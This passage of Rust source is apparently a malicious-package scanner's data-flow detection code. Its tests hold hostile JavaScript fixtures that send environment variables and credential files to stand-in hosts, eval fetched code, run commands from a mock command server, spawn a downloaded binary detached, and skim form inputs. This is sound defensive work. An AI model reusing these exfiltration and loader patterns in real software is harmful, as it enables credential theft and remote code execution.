        Expression::ArrayExpression(a) => a,
        // `list.concat([RELAY], more)`: the added entries.
        Expression::CallExpression(c)
            if c.callee
                .as_member_expression()
                .and_then(|m| m.static_property_name())
                == Some("concat") =>
        {
            return c
                .arguments
                .iter()
                .filter_map(|a| a.as_expression())
                .find_map(|a| ice_server_url(a, env))
                .or_else(|| {
                    let m = c.callee.as_member_expression()?;
                    ice_server_url(m.object(), env)
                });
        }
        _ => return None,
    };
    a.elements.iter().find_map(|el| {
        let el = el.as_expression()?.without_parentheses();
        if let Expression::Identifier(id) = el {
            let props = env.known.objects.get(&env.symbol_of(id)?)?;
            return props.iter().find_map(|(k, p)| match p {
                Prop::Value(v) if k == "urls" || k == "url" => match env.eval(v) {
                    Val::Str(s) => Some(s),
                    Val::Arr(items) => items.iter().find_map(|v| v.as_str().map(str::to_string)),
                    _ => None,
                },
                _ => None,
            });
        }
        let Expression::ObjectExpression(o) = el else {
            return None;
        };
        o.properties.iter().find_map(|p| {
            let ObjectPropertyKind::ObjectProperty(p) = p else {
                return None;
            };
            if p.key.static_name().as_deref() != Some("urls")
                && p.key.static_name().as_deref() != Some("url")
            {
                return None;
            }
            match env.eval(&p.value) {
                Val::Str(s) => Some(s),
                Val::Arr(items) => items.iter().find_map(|v| v.as_str().map(str::to_string)),
                _ => None,
            }
        })
    })
}

/// A string that reads as a CSS selector of form fields rather than a word: a bare field
/// tag (`input`, `form`, `textarea`, `select`), a tag with attribute or pseudo-class
/// (`input[type=password]`, `input:not([type=hidden])`), an attribute selector
/// (`[autocomplete^=cc-]`), or a selector list of these.
fn is_css_selector(sel: &str) -> bool {
    let tags = ["input", "form", "textarea", "select"];
    !sel.is_empty()
        && sel.len() <= 200
        && sel.split(',').all(|part| {
            let p = part.trim().to_ascii_lowercase();
            tags.contains(&p.as_str())
                || p.starts_with('[') && p.ends_with(']')
                || tags.iter().any(|t| {
                    p.strip_prefix(t)
                        .is_some_and(|rest| rest.starts_with(['[', ':', '.', '#', ' ']))
                })
        })
}

/// DOM selectors for password/card fields and form inputs.
fn selector_kind(sel: &str) -> Option<SourceKind> {
    let l = sel.to_ascii_lowercase();
    let sensitive = [
        "password",
        "passwd",
        "card",
        "cc-",
        "ccnum",
        "cvv",
        "cvc",
        "expiry",
        "exp-date",
        "security-code",
        "iban",
        "ssn",
    ];
    if sensitive.iter().any(|s| l.contains(s)) {
        return Some(SourceKind::Password);
    }
    let inputs = l == "input"
        || l == "form"
        || l == "textarea"
        || l == "select"
        || l.starts_with("input")
        || l.contains("input[")
        || l.starts_with("form")
        || l.contains(" input")
        || l.contains(",input");
    inputs.then_some(SourceKind::FormInput)
}

/// The wallet method of an EIP-1193 request object that moves funds or signs
/// (`{ method: 'eth_sendTransaction', params }`), folded.
fn wallet_spend_method(e: &Expression<'_>, env: &Env<'_>) -> Option<String> {
    let Expression::ObjectExpression(o) = e.without_parentheses() else {
        return None;
    };
    o.properties.iter().find_map(|p| {
        let ObjectPropertyKind::ObjectProperty(p) = p else {
            return None;
        };
        if p.key.static_name().as_deref() != Some("method") {
            return None;
        }
        let m = env.eval(&p.value).as_str()?.to_string();
        matches!(
            m.as_str(),
            "eth_sendTransaction"
                | "eth_signTransaction"
                | "eth_sign"
                | "personal_sign"
                | "eth_signTypedData"
                | "eth_signTypedData_v3"
                | "eth_signTypedData_v4"
                | "wallet_sendCalls"
                | "signTransaction"
                | "signAndSendTransaction"
                | "signAllTransactions"
        )
        .then_some(m)
    })
}

/// Listeners whose handlers receive the requests other code makes: a service worker's
/// `fetch` event (`self.addEventListener('fetch', e => … e.request …)`, on the worker's
/// global or unqualified) and an extension's `webRequest` events
/// (`chrome.webRequest.onBeforeSendHeaders.addListener(d => … d.requestHeaders …)`), which
/// carry request bodies, headers and `Authorization` values.
fn intercepting_listener(
    method: &str,
    member: Option<&MemberExpression<'_>>,
    event: Option<&str>,
) -> Option<SourceKind> {
    if method == "addEventListener"
        && event == Some("fetch")
        && member.is_none_or(|m| receiver_named(m, &["self", "globalThis", "sw", "worker"]))
    {
        return Some(SourceKind::Intercepted);
    }
    (method == "addListener"
        && member.is_some_and(|m| {
            receiver_named(
                m,
                &[
                    "onBeforeRequest",
                    "onBeforeSendHeaders",
                    "onSendHeaders",
                    "onHeadersReceived",
                    "onAuthRequired",
                ],
            )
        }))
    .then_some(SourceKind::Intercepted)
}

/// DOM events whose handlers receive user input.
fn event_kind(ev: &str) -> Option<SourceKind> {
    match ev {
        "submit" | "change" | "input" | "blur" | "formdata" => Some(SourceKind::FormInput),
        "keydown" | "keypress" | "keyup" => Some(SourceKind::Keystrokes),
        "copy" | "cut" | "paste" => Some(SourceKind::Clipboard),
        _ => None,
    }
}

/// The owner's name when `m` reads the key material of a key object: a wallet-secret property
/// (`privateKey`, `mnemonic`, `seed`…, see [`is_wallet_secret_name`]) or `secretKey` of an
/// object named like a wallet, signer, key pair or account (`this._keypair.secretKey`,
/// `signer.signingKey.privateKey`), or the `phrase` of a `mnemonic`. Other owners (an options
/// object's `privateKey` for a JWT or an SSH connection, a random `seed`) are not key material
/// of a wallet.
///
/// In a module that loads a signing library (`signing`), `secretKey` (the field of a NaCl /
/// Solana key pair), `privateKey` and `mnemonic` (an ethers wallet's) are key material on any
/// named receiver but a configuration object (`kp.secretKey` of a parameter handed
/// `this._keypair`, `w.privateKey` of `const w = new Wallet(key)`; not `config.secretKey`, an
/// API key).
fn key_material_member<'a>(
    m: &'a MemberExpression<'_>,
    prop: &str,
    signing: bool,
) -> Option<&'a str> {
    let owner = match m.object().without_parentheses() {
        Expression::StaticMemberExpression(o) => o.property.name.as_str(),
        Expression::Identifier(id) => id.name.as_str(),
        _ => return None,
    };
    let o: String = owner
        .chars()
        .filter(|c| *c != '_' && *c != '$')
        .collect::<String>()
        .to_ascii_lowercase();
    let keyish = [
        "wallet",
        "signer",
        "signingkey",
        "keypair",
        "account",
        "mnemonic",
    ]
    .iter()
    .any(|k| o.contains(k))
        // The usual short names of a key pair (`const kp = nacl.sign.keyPair()`).
        || matches!(o.as_str(), "kp" | "pair" | "keys");
    let secret = is_wallet_secret_name(prop)
        || prop == "secretKey"
        || (prop == "phrase" && o.contains("mnemonic"));
    let config = [
        "option",
        "opts",
        "config",
        "conf",
        "settings",
        "env",
        "credential",
        "auth",
    ]
    .iter()
    .any(|k| o.contains(k));
    // In a signing module a wallet object may be called anything (`const w = new Wallet(k)`):
    // its `secretKey`, `privateKey` or `mnemonic` is key material whatever the receiver's name.
    let any_owner = signing && matches!(prop, "secretKey" | "privateKey" | "mnemonic") && !config;
    ((keyish || any_owner) && secret).then_some(owner)
}

/// How the flow graph names the sink of a URL spliced into worker source text after
/// `importScripts(` (see `import_scripts_sink`).
pub(crate) const IMPORT_SCRIPTS: &str = "importScripts() in worker source text";

/// True when source text ends in a call of `importScripts` whose argument follows (`…
/// importScripts(`, `importScripts("`): what is spliced in next is the script's URL.
fn ends_with_import_scripts(text: &str) -> bool {
    text.trim_end_matches(['\'', '"', '`', ' '])
        .ends_with("importScripts(")
}

/// The string literal a `+` chain ends with on its left (`'a' + x + 'importScripts('` gives
/// `importScripts(`), or the literal itself.
fn last_literal<'a>(e: &'a Expression<'_>) -> Option<&'a str> {
    match e.without_parentheses() {
        Expression::StringLiteral(s) => Some(s.value.as_str()),
        Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => {
            last_literal(&b.right)
        }
        _ => None,
    }
}

/// How a network source names a destination built from the page's own location.
pub(crate) const SAME_ORIGIN: &str = "the page's own origin";

/// Whether a URL expression is built from the page's own host (`location.host`,
/// `location.origin`, `window.location.hostname`): a page talking to the server that served it.
fn reads_page_host(e: &Expression<'_>, d: u32) -> bool {
    if d > 8 {
        return false;
    }
    match e.without_parentheses() {
        Expression::StaticMemberExpression(m) => {
            matches!(m.property.name.as_str(), "host" | "origin" | "hostname")
                && match m.object.without_parentheses() {
                    Expression::Identifier(id) => id.name == "location",
                    Expression::StaticMemberExpression(o) => o.property.name == "location",
                    _ => false,
                }
        }
        Expression::BinaryExpression(b) => {
            reads_page_host(&b.left, d + 1) || reads_page_host(&b.right, d + 1)
        }
        Expression::TemplateLiteral(t) => t.expressions.iter().any(|x| reads_page_host(x, d + 1)),
        _ => false,
    }
}

/// True when the member's object is a property named one of `names` (`e.clipboardData`).
fn receiver_named(m: &MemberExpression<'_>, names: &[&str]) -> bool {
    match m.object().without_parentheses() {
        Expression::StaticMemberExpression(o) => names.contains(&o.property.name.as_str()),
        Expression::Identifier(id) => names.contains(&id.name.as_str()),
        _ => false,
    }
}

/// Whether a `Function`/`vm` call hands the code it compiles Node's module loader: a constant
/// parameter list naming `require`, `module` or `process` (`Function('require', code)`,
/// `Function('a, require', code)`), or a context object with a `require` property
/// (`vm.runInNewContext(code, { require })`).
fn hands_node_scope(arguments: &[Argument<'_>], env: &Env<'_>) -> bool {
    let node_name = |n: &str| matches!(n.trim(), "require" | "module" | "process");
    let n = arguments.len();
    arguments.iter().enumerate().any(|(i, a)| {
        let Some(e) = a.as_expression() else {
            return false;
        };
        match e.without_parentheses() {
            Expression::ObjectExpression(o) => o.properties.iter().any(|p| {
                matches!(p, ObjectPropertyKind::ObjectProperty(p)
                    if p.key.static_name().is_some_and(|k| node_name(&k)))
            }),
            // Parameter names come before the body (the last argument).
            _ if i + 1 < n => env
                .eval(e)
                .as_str()
                .is_some_and(|s| s.split(',').any(node_name)),
            _ => false,
        }
    })
}

/// Process options that hide or detach the child.
/// Switches that hand an interpreter its program inline (`sh -c`, `node -e`, PowerShell's
/// `-Command`, `cmd /c`).
const INLINE_SWITCHES: &[&str] = &["-c", "-e", "--eval", "-command", "/c", "/k"];

/// True for `execFile(prog, [..., '-c', 'constant script', ...data])` run without
/// `shell: true`: the program is a constant, the inline script is a string literal, every
/// argument before it is a constant, and the script neither evaluates its arguments nor runs
/// one as a command (`eval "$1"`, `& $args[0]`, `iex`). What follows the script are its
/// positional arguments: data, not code.
fn runs_constant_script(arguments: &[Argument<'_>], env: &Env<'_>) -> bool {
    let exprs: Vec<&Expression<'_>> = arguments.iter().filter_map(|a| a.as_expression()).collect();
    let (Some(prog), Some(Expression::ArrayExpression(argv))) =
        (exprs.first(), exprs.get(1).map(|e| e.without_parentheses()))
    else {
        return false;
    };
    if !matches!(env.eval(prog), Val::Str(_)) {
        return false;
    }
    // `shell: true` joins the arguments into one command line for a shell.
    let shell = exprs.iter().skip(2).any(|e| {
        let Expression::ObjectExpression(o) = e.without_parentheses() else {
            return false;
        };
        o.properties.iter().any(|p| {
            matches!(p, ObjectPropertyKind::ObjectProperty(p)
                if p.key.static_name().as_deref() == Some("shell")
                    && !matches!(&p.value, Expression::BooleanLiteral(b) if !b.value))
        })
    });
    if shell {
        return false;
    }
    let mut switch = false;
    for el in &argv.elements {
        let Some(e) = el.as_expression() else {
            return false;
        };
        let Val::Str(text) = env.eval(e) else {
            return false;
        };
        if switch {
            return matches!(e.without_parentheses(), Expression::StringLiteral(_))
                && !script_runs_its_arguments(&text);
        }
        switch = INLINE_SWITCHES.contains(&text.to_ascii_lowercase().as_str());
    }
    false
}

/// True when an inline script evaluates or runs what it is given: `eval`, PowerShell's
/// `iex`/`Invoke-Expression`/`Invoke-Command`/`Start-Process`, `source`, or a positional
/// argument (`$1`, `$@`, `$args[0]`, `%1`) in the place of a command.
fn script_runs_its_arguments(script: &str) -> bool {
    let lower = script.to_ascii_lowercase();
    if [
        "eval",
        "iex",
        "invoke-expression",
        "invoke-command",
        "start-process",
        "source ",
        "exec ",
        "bash",
        " sh ",
        "powershell",
        "pwsh",
        "cmd ",
    ]
    .iter()
    .any(|w| lower.contains(w))
    {
        return true;
    }
    // A command position: the start, or after `;`, `&`, `|`, `(`, `{`, a newline or `&&`.
    lower
        .split([';', '&', '|', '(', '{', '\n'])
        .map(|c| c.trim_start().trim_start_matches(['"', '\'']))
        .any(|c| c.starts_with('$') || c.starts_with('%'))
}

fn spawn_flags(o: &ObjectExpression<'_>, env: &Env<'_>) -> u8 {
    let mut fl = 0;
    for p in &o.properties {
        let ObjectPropertyKind::ObjectProperty(p) = p else {
            continue;
        };
        let Some(k) = p.key.static_name() else {
            continue;
        };
        match k.as_ref() {
            "detached"
                if matches!(&p.value, Expression::BooleanLiteral(b) if b.value)
                    || matches!(&p.value, Expression::UnaryExpression(_)) =>
            {
                fl |= flags::DETACHED
            }
            "stdio" => {
                let ignored = match env.eval(&p.value) {
                    Val::Str(s) => s == "ignore",
                    Val::Arr(items) => {
                        items.iter().all(|i| i.as_str() == Some("ignore")) && !items.is_empty()
                    }
                    _ => false,
                };
                if ignored {
                    fl |= flags::SILENT;
                }
            }
            "windowsHide" if matches!(&p.value, Expression::BooleanLiteral(b) if b.value) => {
                fl |= flags::SILENT
            }
            _ => {}
        }
    }
    fl
}

/// A bare host name (`x.example.com`).
fn looks_like_host(s: &str) -> bool {
    s.len() >= 4
        && s.len() <= 253
        && s.contains('.')
        && !s.contains(' ')
        && !s.starts_with('.')
        && !s.contains('/')
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':'))
        && s.rsplit('.')
            .next()
            .is_some_and(|tld| tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic()))
}

/// Services that answer with the caller's public IP address.
fn is_ip_echo(url: &str) -> bool {
    let host = crate::text::url_host(url);
    [
        "ipify.org",
        "ifconfig.me",
        "icanhazip.com",
        "ipinfo.io",
        "ip-api.com",
        "api.ip.sb",
        "checkip.amazonaws.com",
        "ipecho.net",
        "myexternalip.com",
        "wtfismyip.com",
        "ident.me",
        "ipapi.co",
        "ipwho.is",
        "ifconfig.co",
    ]
    .iter()
    .any(|d| crate::text::host_is(&host, d))
}

/// Request headers that carry the caller's credentials (`Authorization`, cookies, API keys).
fn is_credential_header(h: &str) -> bool {
    let h = h.to_ascii_lowercase();
    matches!(
        h.as_str(),
        "authorization"
            | "proxy-authorization"
            | "cookie"
            | "x-api-key"
            | "api-key"
            | "x-auth-token"
    ) || h.ends_with("-token") && h.starts_with("x-")
}

/// True when the options argument of a `Worker` says its first argument is code
/// (`{ eval: true }`).
fn eval_option(args: &[Argument<'_>], env: &Env<'_>) -> bool {
    let Some(Expression::ObjectExpression(o)) = args
        .get(1)
        .and_then(|a| a.as_expression())
        .map(|e| e.without_parentheses())
    else {
        return false;
    };
    o.properties.iter().any(|p| {
        let ObjectPropertyKind::ObjectProperty(p) = p else {
            return false;
        };
        let truthy = match p.value.without_parentheses() {
            Expression::BooleanLiteral(b) => b.value,
            v => matches!(env.eval(v), Val::Num(n) if n != 0.0),
        };
        p.key.static_name().as_deref() == Some("eval") && truthy
    })
}

#[cfg(test)]
mod tests {
    use crate::flow::{FlowPath, SinkKind, SourceKind};
    use crate::rules::test_util::{PJ, scan_facts};

    #[test]
    fn data_file_names_need_a_name() {
        assert!(super::data_file_name("logo.png"));
        assert!(super::data_file_name("assets/font.woff2"));
        assert!(!super::data_file_name(".jpeg"));
        assert!(!super::data_file_name("https://x.example/a.png"));
    }

    fn paths(files: &[(&str, &str)]) -> Vec<FlowPath> {
        let mut all = vec![("package.json", PJ)];
        all.extend_from_slice(files);
        scan_facts(&all).flows.paths
    }

    fn has(p: &[FlowPath], source: SourceKind, sink: SinkKind) -> Option<FlowPath> {
        p.iter()
            .find(|x| x.source == source && x.sink == sink)
            .cloned()
    }

    #[test]
    fn hex_config_decoded_by_a_helper_of_another_module_reaches_function() {
        // The config module exports hex strings decoded by a local helper; the entry loads a
        // module and calls a method both named by that config, and compiles the answer.
        let p = paths(&[
            (
                "lib/config.js",
                "const unpack = (h) => Buffer.from(h, 'hex').toString('utf8');\nmodule.exports = { remote: { lib: unpack('6178696f73'), verb: unpack('676574'), url: unpack('68747470733a2f2f782e6578616d706c652f61') } };\n",
            ),
            (
                "index.js",
                "const cfg = require('./lib/config');\n(async () => {\n  const r = cfg.remote;\n  const client = require(r.lib);\n  const res = await client[r.verb](r.url);\n  new (Function.constructor)('require', res.data.cookie)(require);\n})();\n",
            ),
        ]);
        let f =
            has(&p, SourceKind::Decoded, SinkKind::Eval).expect("decoded config reaches Function");
        assert_eq!((f.from.file.as_str(), f.to.line), ("lib/config.js", 6));
        // The path names one of the decoded values (which one depends on the order the
        // config's members were read).
        assert!(
            ["axios", "get", "https://x.example/a"]
                .iter()
                .any(|v| f.from.what.contains(v)),
            "{}",
            f.from.what
        );
        assert!(f.flags & crate::flow::flags::NODE_SCOPE != 0);
        // A char-code table of another module decoded in a helper is the same.
        let p = paths(&[
            (
                "lib/t.js",
                "exports.t = [114, 101, 113, 117, 105, 114, 101, 40, 39, 102, 115, 39, 41];\n",
            ),
            (
                "index.js",
                "const { t } = require('./lib/t');\nconst s = (a) => String.fromCharCode(...a);\neval(s(t));\n",
            ),
        ]);
        assert!(
            has(&p, SourceKind::Decoded, SinkKind::Eval).is_some(),
            "{p:?}"
        );
    }

    #[test]
    fn own_module_members_pass_hidden_constants_only() {
        // Benign look-alikes: a config module holding the environment and a hex digest: a
        // property read of it carries neither the environment nor a "decoded" digest.
        let p = paths(&[
            (
                "lib/config.js",
                "module.exports = { env: process.env, digest: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855' };\n",
            ),
            (
                "index.js",
                "const cfg = require('./lib/config');\nconst https = require('https');\nhttps.request('https://api.example.com/v1', { method: 'POST' }).end(JSON.stringify(cfg.env));\neval(Buffer.from(cfg.digest, 'hex').toString());\n",
            ),
        ]);
        assert!(
            has(&p, SourceKind::EnvAll, SinkKind::Network).is_none(),
            "{p:?}"
        );
        assert!(
            has(&p, SourceKind::EnvSecret, SinkKind::Network).is_none(),
            "{p:?}"
        );
        assert!(
            has(&p, SourceKind::Decoded, SinkKind::Eval).is_none(),
            "{p:?}"
        );
    }

    #[test]
    fn env_through_variables_and_json_to_a_request_body() {
        let p = paths(&[(
            "index.js",
            "const https = require('https');\nconst all = process.env;\nconst body = JSON.stringify({ e: all, t: Date.now() });\nconst req = https.request({ hostname: 'collect.example.com', method: 'POST' });\nreq.write(body);\nreq.end();\n",
        )]);
        let f = has(&p, SourceKind::EnvAll, SinkKind::Network).expect("env reaches the request");
        assert_eq!((f.from.line, f.to.line), (2, 5));
        assert_eq!(f.dest.as_deref(), Some("collect.example.com"));
        assert!(
            f.steps
                .iter()
                .any(|s| s.what == "JSON.stringify" && s.line == 3),
            "{:?}",
            f.steps
        );
    }

    #[test]
    fn credential_read_in_one_module_sent_by_a_helper_of_another() {
        let p = paths(&[
            (
                "index.js",
                "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst { send } = require('./lib/net');\nfor (const f of ['.npmrc', '.git-credentials']) {\n  const p = path.join(os.homedir(), f);\n  fs.readFile(p, 'utf8', (err, data) => { if (!err) send(data); });\n}\n",
            ),
            (
                "lib/net.js",
                "const https = require('https');\nfunction send(d) {\n  const r = https.request('https://x.example.net/u', { method: 'POST' });\n  r.end(Buffer.from(d).toString('base64'));\n}\nmodule.exports = { send };\n",
            ),
        ]);
        let f = has(&p, SourceKind::Credential, SinkKind::Network)
            .expect("credential reaches the helper's send");
        assert_eq!((f.from.file.as_str(), f.from.line), ("index.js", 7));
        assert_eq!((f.to.file.as_str(), f.to.line), ("lib/net.js", 4));
        assert!(f.steps.iter().any(|s| s.what == "base64"), "{:?}", f.steps);
    }

    #[test]
    fn promise_chain_from_fetch_to_eval() {
        let p = paths(&[(
            "a.js",
            "fetch('https://cfg.example.org/x')\n  .then((r) => r.text())\n  .then((code) => { eval(code); });\n",
        )]);
        let f = has(&p, SourceKind::NetworkData, SinkKind::Eval).expect("response reaches eval");
        assert_eq!((f.from.line, f.to.line), (1, 3));
    }

    #[test]
    fn awaited_response_destructured_then_executed() {
        let p = paths(&[(
            "a.js",
            "const axios = require('axios');\nconst { exec } = require('child_process');\nasync function poll() {\n  const { data } = await axios.get('https://c2.example.net/task');\n  return data.cmd;\n}\nasync function main() {\n  const cmd = await poll();\n  exec(cmd);\n}\nmain();\n",
        )]);
        let f = has(&p, SourceKind::NetworkData, SinkKind::Exec).expect("task reaches exec");
        assert_eq!((f.from.line, f.to.line), (4, 9));
    }

    #[test]
    fn form_fields_on_submit_to_a_constant_endpoint() {
        let p = paths(&[(
            "f.js",
            "const U = 'https://stats.example.com/c';\nfunction collect(form) {\n  const out = {};\n  form.querySelectorAll('input').forEach((el) => { out[el.name] = el.value; });\n  return out;\n}\ndocument.addEventListener('submit', (e) => {\n  const data = collect(e.target);\n  fetch(U, { method: 'POST', body: JSON.stringify(data) });\n});\n",
        )]);
        let f = has(&p, SourceKind::FormInput, SinkKind::Network).expect("form data reaches fetch");
        assert_eq!(f.to.line, 9);
        assert_eq!(f.dest.as_deref(), Some("https://stats.example.com/c"));
    }

    #[test]
    fn host_name_encoded_into_a_dns_query() {
        let p = paths(&[(
            "d.js",
            "const dns = require('dns');\nconst os = require('os');\nconst h = Buffer.from(os.hostname()).toString('hex');\nconst name = `${h}.${os.userInfo().username}.t.example.com`;\ndns.lookup(name, () => {});\n",
        )]);
        assert!(has(&p, SourceKind::HostName, SinkKind::Dns).is_some());
        assert!(has(&p, SourceKind::UserName, SinkKind::Dns).is_some());
    }

    #[test]
    fn a_download_written_then_run_is_a_run_of_the_written_path() {
        let facts = scan_facts(&[
            ("package.json", PJ),
            (
                "i.js",
                "const https = require('https');\nconst fs = require('fs');\nconst { spawn } = require('child_process');\nconst out = '/tmp/.cache-helper';\nhttps.get('https://dl.example.net/b', (res) => {\n  const f = fs.createWriteStream(out);\n  res.pipe(f);\n  f.on('finish', () => spawn(out, [], { detached: true, stdio: 'ignore' }).unref());\n});\n",
            ),
        ]);
        let w = has(
            &facts.flows.paths,
            SourceKind::NetworkData,
            SinkKind::FileWrite,
        )
        .expect("download written");
        assert_eq!(w.path_key.as_deref(), Some(".cache-helper"));
        let run = facts
            .flows
            .runs
            .iter()
            .find(|r| r.key == ".cache-helper")
            .expect("run of the written file");
        assert_eq!(run.at.line, 8);
        assert_eq!(
            run.flags,
            crate::flow::flags::DETACHED | crate::flow::flags::SILENT
        );
    }

    #[test]
    fn telemetry_with_a_hashed_machine_id_has_no_host_path() {
        let p = paths(&[(
            "t.js",
            "const os = require('os');\nconst crypto = require('crypto');\nconst id = crypto.createHash('sha256').update(os.hostname()).digest('hex');\nfetch('https://telemetry.example.com/v1', { method: 'POST', body: JSON.stringify({ id, platform: process.platform }) });\n",
        )]);
        assert!(
            has(&p, SourceKind::HostName, SinkKind::Network).is_none(),
            "{p:?}"
        );
    }

    /// A webpack bundle: `__webpack_require__(id)` of an external is that module, of an
    /// internal module its exports.
    const WEBPACK: &str = "(() => {\nvar __webpack_modules__ = ({\n10: (function(module, exports, __webpack_require__) {\nconst https = __webpack_require__(687);\nfunction send(data) {\n  const req = https.request({ host: 'collect.example.com', method: 'POST' });\n  req.end(data);\n}\nexports.send = send;\n}),\n687: ((module) => {\nmodule.exports = require(\"https\");\n})\n});\nvar __webpack_module_cache__ = {};\nfunction __webpack_require__(moduleId) {\n  var cached = __webpack_module_cache__[moduleId];\n  if (cached !== undefined) return cached.exports;\n  var module = __webpack_module_cache__[moduleId] = { exports: {} };\n  __webpack_modules__[moduleId](module, module.exports, __webpack_require__);\n  return module.exports;\n}\nconst net = __webpack_require__(10);\nnet.send(PAYLOAD);\n})();\n";

    #[test]
    fn webpack_modules_are_followed_like_files() {
        let src = WEBPACK.replace("PAYLOAD", "JSON.stringify(process.env)");
        let p = paths(&[("dist/cli.js", &src)]);
        let f = has(&p, SourceKind::EnvAll, SinkKind::Network).expect("env reaches the request");
        assert_eq!((f.from.line, f.to.line), (24, 7));
        assert_eq!(f.dest.as_deref(), Some("collect.example.com"));
    }

    #[test]
    fn webpack_bundle_sending_its_own_data_has_no_path() {
        let src = WEBPACK.replace(
            "PAYLOAD",
            "JSON.stringify({ event: 'run', ms: Date.now() })",
        );
        assert_eq!(paths(&[("dist/cli.js", &src)]), vec![]);
    }

    #[test]
    fn the_environment_object_in_a_template_and_proxy_settings_are_not_sent() {
        let p = paths(&[(
            "index.js",
            "const net = require('net');\nconst http = require('http');\nfunction pipe(env) { return `${env}/ipc.sock`; }\nnet.createConnection(pipe(process.env));\nhttp.setGlobalProxyFromEnv(process.env);\n",
        )]);
        assert_eq!(p, vec![]);
    }
}
